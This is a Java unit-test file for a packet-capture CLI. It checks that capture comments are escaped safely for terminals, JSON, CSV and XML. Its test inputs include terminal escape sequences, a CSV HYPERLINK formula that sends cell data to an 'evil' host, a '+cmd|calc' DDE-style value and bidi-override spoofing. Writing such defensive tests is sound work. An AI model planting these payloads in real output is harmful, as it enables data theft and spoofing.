package dev.cutover.cli;

import dev.cutover.testsupport.CliRun;
import dev.cutover.text.Untrusted;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * A comment is the capture author's text: an escape sequence in it reaches no terminal, a formula in it no
 * spreadsheet.
 */
class HostileTextTest {
    private static final String ESCAPES = "evil\u001b]0;pwned\u0007\u001b[2J\nFrame 2: forged line";
    private static final String FORMULA = "=HYPERLINK(\"http://evil/?\"&A1,\"click\")";

    @TempDir
    Path dir;

    private Path annotated() throws Exception {
        Path copy = dir.resolve("vmotion.pcap");
        Files.copy(Path.of("../sample-captures/esxi-vmotion-vlan10.pcap"), copy);
        CliRun set = CliRun.of("annotate", copy.toString(), "--frame", "1", "--comment", ESCAPES, "--tag", "+cmd|calc");
        assertThat(set.code()).isZero();
        assertThat(set.out()).doesNotContain("\u001b", "\u0007");
        return copy;
    }

    @Test
    void dissectAndAnnotatePrintControlCharactersEscapedAndACommentsLinesIndented() throws Exception {
        Path capture = annotated();
        CliRun dissect = CliRun.of("dissect", "-c", "1", "--no-hex", capture.toString());
        assertThat(dissect.out()).doesNotContain("\u001b", "\u0007")
                .contains("Comment: evil\\x1b]0;pwned\\x07\\x1b[2J\n        Frame 2: forged line [+cmd|calc]")
                .doesNotContain("\nFrame 2:");
        CliRun list = CliRun.of("annotate", capture.toString());
        assertThat(list.out()).isEqualTo("1\tevil\\x1b]0;pwned\\x07\\x1b[2J\n\tFrame 2: forged line [+cmd|calc]\n");
    }

    @Test
    void jsonLinesCarryTheCommentExactlyAndNoRawControlCharacter() throws Exception {
        Path capture = annotated();
        CliRun jsonl = CliRun.of("dissect", "-c", "1", "--format", "jsonl", capture.toString());
        assertThat(jsonl.out()).doesNotContain("\u001b", "\u0007").hasLineCount(1);
        var node = new com.fasterxml.jackson.databind.ObjectMapper().readTree(jsonl.out());
        assertThat(node.get("frame.comment").asText()).isEqualTo(ESCAPES + " [+cmd|calc]");
    }

    @Test
    void theCsvReportShowsAFormulaAsText() throws Exception {
        Path capture = dir.resolve("vmotion.pcap");
        Files.copy(Path.of("../sample-captures/esxi-vmotion-vlan10.pcap"), capture);
        assertThat(CliRun.of("annotate", capture.toString(), "--frame", "1", "--comment", FORMULA, "--tag",
                "@SUM(1+1)").code()).isZero();
        Path csv = dir.resolve("r.csv");
        assertThat(CliRun.of("report", capture.toString(), "--format", "csv", "-o", csv.toString()).code()).isZero();
        String text = Files.readString(csv, StandardCharsets.UTF_8);
        assertThat(text).contains("\"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"click\"\") [@SUM(1+1)]\"",
                "\"'@SUM(1+1)\"");
        assertThat(text).doesNotContain(",\"=", ",\"@");
    }

    @Test
    void aBidiOverrideInACommentIsPrintedAsAnEscapeAndJsonReadsItBack() throws Exception {
        // a right-to-left override (U+202E) would show the rest of the line reversed on a terminal
        String spoof = "moved to host-\u202e10bmin\u2066x\u2069\u2028line";
        Path capture = dir.resolve("vmotion.pcap");
        Files.copy(Path.of("../sample-captures/esxi-vmotion-vlan10.pcap"), capture);
        assertThat(CliRun.of("annotate", capture.toString(), "--frame", "1", "--comment", spoof).code()).isZero();
        CliRun text = CliRun.of("dissect", "-c", "1", "--no-hex", capture.toString());
        assertThat(text.out()).contains("Comment: moved to host-\\u202e10bmin\\u2066x\\u2069\\u2028line")
                .doesNotContain("\u202e", "\u2066", "\u2028");
        CliRun jsonl = CliRun.of("dissect", "-c", "1", "--format", "jsonl", capture.toString());
        assertThat(jsonl.out()).doesNotContain("\u202e");
        var node = new com.fasterxml.jackson.databind.ObjectMapper().readTree(jsonl.out());
        assertThat(node.get("frame.comment").asText()).isEqualTo(spoof);
    }

    @Test
    void noTextIsAnEmptyCellNotAnError() {
        assertThat(Untrusted.oneLine(null)).isEmpty();
        assertThat(Untrusted.forTerminal(null, "  ")).isEmpty();
        assertThat(Untrusted.oneLine("a\u202eb\u200fc")).isEqualTo("a\\u202eb\u200fc");
        assertThat(Untrusted.forCsv("\r=1")).isEqualTo("\\x0d=1");
    }

    @Test
    void numbersStayNumbersAndOnlyFormulaStartsArePrefixed() {
        assertThat(Untrusted.forCsv("-0.000412")).isEqualTo("-0.000412");
        assertThat(Untrusted.forCsv("+12")).isEqualTo("+12");
        assertThat(Untrusted.forCsv("-1+2")).isEqualTo("'-1+2");
        assertThat(Untrusted.forCsv("=1")).isEqualTo("'=1");
        assertThat(Untrusted.forCsv("\tx")).isEqualTo("'\tx");
        assertThat(Untrusted.forCsv("ARP")).isEqualTo("ARP");
        assertThat(Untrusted.forTerminal("a\u009bb\u007fc\rd", "")).isEqualTo("a\\x9bb\\x7fc\\x0dd");
        assertThat(Untrusted.forCsv("vmnic5\u0000\u001b[2J\nline")).isEqualTo("vmnic5\\x00\\x1b[2J\nline");
        assertThat(Untrusted.forCsv("=\u0007")).isEqualTo("'=\\x07");
        assertThat(Untrusted.oneLine("a\nb\tc\u001b")).isEqualTo("a\\x0ab\\x09c\\x1b");
        assertThat(Untrusted.oneLine("Čeština 切换")).isEqualTo("Čeština 切换");
    }

    @Test
    void markupIsWellFormedXmlWhateverTheText() throws Exception {
        String hostile = "vmnic5\u0000\n<script>&\"'\u001b[2J\uFFFF\uD800 Čeština \uD83D\uDE00";
        String xml = "<t a=\"" + Untrusted.forMarkup(hostile) + "\">" + Untrusted.forMarkup(hostile) + "</t>";
        var doc = javax.xml.parsers.DocumentBuilderFactory.newInstance().newDocumentBuilder()
                .parse(new java.io.ByteArrayInputStream(xml.getBytes(StandardCharsets.UTF_8)));
        String expected = "vmnic5\uFFFD\n<script>&\"'\uFFFD[2J\uFFFD\uFFFD Čeština \uD83D\uDE00";
        assertThat(doc.getDocumentElement().getTextContent()).isEqualTo(expected);
        // an attribute's newline is normalised to a space by every XML parser
        assertThat(doc.getDocumentElement().getAttribute("a")).isEqualTo(expected.replace('\n', ' '));
    }
}
